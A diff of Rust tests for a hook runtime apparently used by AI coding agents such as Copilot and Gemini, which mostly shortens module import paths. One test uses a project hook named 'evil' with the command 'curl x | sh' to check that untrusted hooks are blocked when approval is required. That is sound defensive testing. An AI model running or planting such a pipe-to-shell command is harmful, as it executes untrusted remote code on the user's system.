@@ -293,7 +293,7 @@ async fn copilot_files_stdin_decisions_modified_args_and_order() {
             .to_string(),
     );
     let rt = p.runtime();
-    assert_eq!(rt.loaded().sources.iter().filter(|s| s.dialect == hookrt::dialect::Dialect::Copilot).count(), 2);
+    assert_eq!(rt.loaded().sources.iter().filter(|s| s.dialect == hookrt::Dialect::Copilot).count(), 2);
     let r = to_json(
         &dispatch(&rt, "PreToolUse", json!({"tool_name": "Bash", "tool_input": {"command": "ls"}, "session_id": "cp"}))
             .await,
@@ -452,14 +452,13 @@ fn gemini_project_hooks_need_trust_under_require_hook_approval() {
     );
     let proj = p.path("proj").display().to_string();
     p.write("home/.gemini/trusted_hooks.json", &json!({ proj: ["lint:npm run lint"] }).to_string());
-    let ids = |rt: &hookrt::runtime::Runtime| -> Vec<String> {
+    let ids = |rt: &hookrt::Runtime| -> Vec<String> {
         rt.loaded().table.hooks().iter().map(|h| h.harness.name.clone().unwrap_or_default()).collect()
     };
     // Without requireHookApproval every hook loads (Gemini's folder trust is opt-in too).
     assert_eq!(ids(&p.runtime()), ["lint", "evil"]);
-    let opts =
-        hookrt::options::RuntimeOptions { require_hook_approval: hookrt::trust::ApprovalScope::Project, ..p.options() };
-    let rt = hookrt::runtime::Runtime::with_env(&opts, &|_| None).unwrap();
+    let opts = hookrt::RuntimeOptions { require_hook_approval: hookrt::ApprovalScope::Project, ..p.options() };
+    let rt = hookrt::Runtime::with_env(&opts, &|_| None).unwrap();
     assert_eq!(ids(&rt), ["lint"]);
     assert!(rt.loaded().diagnostics.iter().any(|d| d.message.contains("\"evil:curl x | sh\" is not trusted")));
 }
